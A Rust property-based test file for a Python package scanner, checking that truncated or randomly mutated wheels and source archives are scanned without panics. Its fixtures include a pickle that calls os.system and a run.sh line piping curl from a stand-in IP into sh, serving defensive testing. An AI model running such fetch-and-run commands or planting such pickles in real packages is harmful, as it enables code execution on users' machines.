//! Whatever the bytes are, a scan ends without a panic, and what is cut off is never clean.

use proptest::prelude::*;
use spip_core::Contents;
use spip_scan::{Input, Limits, scan};

use crate::support::{gzipped, member, scan_sdist, scan_wheel, tar, wheel, zip};

fn small_wheel() -> Vec<u8> {
    let pickle = b"\x80\x03cos\nsystem\nq\0X\x04\0\0\0echoq\x01\x85q\x02Rq\x03.";
    let inner = zip(&[member("x.py", b"x = 1\n")]);
    wheel(&[
        ("demo/__init__.py", b"x = 1\n"),
        ("demo/model.pkl", pickle),
        ("demo/logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\0IENDxxxx"),
        ("demo/inner.zip", &inner),
        ("demo.pth", b"import demo\n/opt\n"),
        (
            "demo-1.0.dist-info/entry_points.txt",
            b"[console_scripts]\ndemo = demo:main\n",
        ),
    ])
}

fn small_sdist() -> Vec<u8> {
    tar(&[
        ("demo-1.0/PKG-INFO", b"Name: demo\nVersion: 1.0\n"),
        (
            "demo-1.0/pyproject.toml",
            b"[build-system]\nrequires = []\n",
        ),
        ("demo-1.0/setup.cfg", b"[options]\ncmdclass =\n  a = b.C\n"),
        (
            "demo-1.0/setup.py",
            b"from setuptools import setup\nsetup()\n",
        ),
        ("demo-1.0/run.sh", b"curl http://192.0.2.1/x | sh\n"),
    ])
}

/// Any answer is fine but an error of the scanner itself.
fn is_honest(contents: &Contents) -> bool {
    let internal = |cause: spip_core::Cause| cause == spip_core::Cause::Internal;
    !contents.unread.iter().any(|unread| internal(unread.cause))
}

#[test]
fn a_wheel_cut_off_anywhere_is_unread() {
    let whole = small_wheel();
    for length in 0..whole.len() {
        let contents = scan_wheel(&whole[..length]);
        assert!(is_honest(&contents));
        assert!(!contents.unread.is_empty(), "cut off at {length}");
    }
}

#[test]
fn a_source_archive_cut_off_anywhere_is_unread() {
    let whole = gzipped(&small_sdist());
    for length in 0..whole.len() {
        let contents = scan_sdist("demo-1.0.tar.gz", &whole[..length]);
        assert!(is_honest(&contents));
        assert!(!contents.unread.is_empty(), "cut off at {length}");
    }
}

#[test]
fn a_tar_archive_cut_off_inside_a_member_is_unread() {
    let whole = small_sdist();
    for length in (0..whole.len() - 1024).step_by(37) {
        let contents = scan_sdist("demo-1.0.tar", &whole[..length]);
        assert!(is_honest(&contents));
        let between = length % 512 == 0;
        assert!(
            between || !contents.unread.is_empty(),
            "cut off at {length}"
        );
    }
}

fn mutated(whole: Vec<u8>) -> impl Strategy<Value = Vec<u8>> {
    let changes = prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8);
    changes.prop_map(move |changes| {
        let mut bytes = whole.clone();
        for (at, value) in changes {
            let at = at.index(bytes.len());
            bytes[at] = value;
        }
        bytes
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn any_bytes_are_read_without_a_panic(
        bytes in prop::collection::vec(any::<u8>(), 0..2000),
        name in prop::sample::select(vec!["x.pth", "x.pkl", "x.pyc", "x.png", "x.sh", "x.py", "x", "x.npy", "x.zip", "x.start"]),
    ) {
        prop_assert!(is_honest(&scan_wheel(&bytes)));
        prop_assert!(is_honest(&scan_sdist("demo-1.0.tar.gz", &bytes)));
        let input = Input::Module { path: name, bytes: &bytes };
        prop_assert!(is_honest(&scan(input, &Limits::default(), &|| false)));
    }

    #[test]
    fn files_that_begin_right_and_go_wrong_are_read_without_a_panic(
        head in prop::sample::select(vec![
            &b"\x89PNG\r\n\x1a\n"[..], b"GIF89a", b"\xff\xd8\xff", b"%PDF-", b"RIFF....WEBP", b"\x7fELF\x02\x01",
            b"MZ", b"\xca\xfe\xba\xbe", b"\x80\x04\x95", b"\x93NUMPY\x01\0", b"\xa7\x0d\x0d\x0a", b"PK\x03\x04", b"#!/bin/sh\n",
        ]),
        tail in prop::collection::vec(any::<u8>(), 0..500),
    ) {
        let bytes = [head, &tail].concat();
        let contents = scan_wheel(&wheel(&[("demo/file", &bytes), ("demo/file.pyc", &bytes)]));
        prop_assert!(is_honest(&contents));
    }

    #[test]
    fn a_changed_wheel_is_read_without_a_panic(bytes in mutated(small_wheel())) {
        prop_assert!(is_honest(&scan_wheel(&bytes)));
    }

    #[test]
    fn a_changed_source_archive_is_read_without_a_panic(bytes in mutated(small_sdist())) {
        prop_assert!(is_honest(&scan_sdist("demo-1.0.tar", &bytes)));
        prop_assert!(is_honest(&scan_sdist("demo-1.0.tar.gz", &gzipped(&bytes))));
    }

    #[test]
    fn any_configuration_is_read_without_a_panic(
        texts in prop::collection::vec("[ -~\\n\\[\\]='\"]{0,300}", 4),
    ) {
        let bytes = tar(&[
            ("demo-1.0/pyproject.toml", texts[0].as_bytes()),
            ("demo-1.0/setup.cfg", texts[1].as_bytes()),
            ("demo-1.0/PKG-INFO", texts[2].as_bytes()),
            ("demo-1.0/demo.egg-info/entry_points.txt", texts[3].as_bytes()),
        ]);
        prop_assert!(is_honest(&scan_sdist("demo-1.0.tar", &bytes)));
        let files: Vec<(&str, &[u8])> = vec![
            ("demo-1.0.dist-info/entry_points.txt", texts[0].as_bytes()),
            ("demo.start", texts[1].as_bytes()),
            ("demo.pth", texts[2].as_bytes()),
        ];
        prop_assert!(is_honest(&scan_wheel(&wheel(&files))));
    }
}
